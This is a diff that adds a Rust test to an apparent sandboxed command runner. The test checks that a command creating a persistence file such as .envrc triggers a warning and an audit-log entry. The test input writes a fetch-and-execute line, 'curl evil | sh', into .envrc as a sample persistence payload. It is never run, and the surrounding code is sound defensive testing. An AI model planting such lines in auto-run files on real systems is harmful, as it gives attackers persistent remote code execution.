@@ -586,3 +586,30 @@ fn credentials_on_the_command_line_stay_out_of_the_plan_and_the_audit_record() {
         assert!(!stdout(&out).contains(&tok), "{fmt}: {}", show(&out));
     }
 }
+
+#[test]
+fn persistence_files_created_by_the_command_are_reported() {
+    // An absent `.envrc` cannot be bound read-only without creating it on
+    // the host: if the command creates one, the run says so and records it.
+    let f = Fixture::new();
+    let log = f.dir.path().join("persist.jsonl");
+    let out = f.run_sh(
+        As::Me,
+        &["--audit-log", log.to_str().unwrap()],
+        "echo 'curl evil | sh' > .envrc; echo ok > src/fine.txt",
+    );
+    assert!(out.status.success(), "{}", show(&out));
+    assert!(
+        stderr(&out).contains("WARNING") && stderr(&out).contains(".envrc"),
+        "{}",
+        show(&out)
+    );
+    assert!(
+        !stderr(&out).contains("fine.txt"),
+        "ordinary files are not reported"
+    );
+    let end = lines(&log).pop().unwrap();
+    let created = end["persistence_created"].as_array().unwrap();
+    assert_eq!(created.len(), 1, "{end}");
+    assert!(created[0].as_str().unwrap().ends_with("/.envrc"));
+}
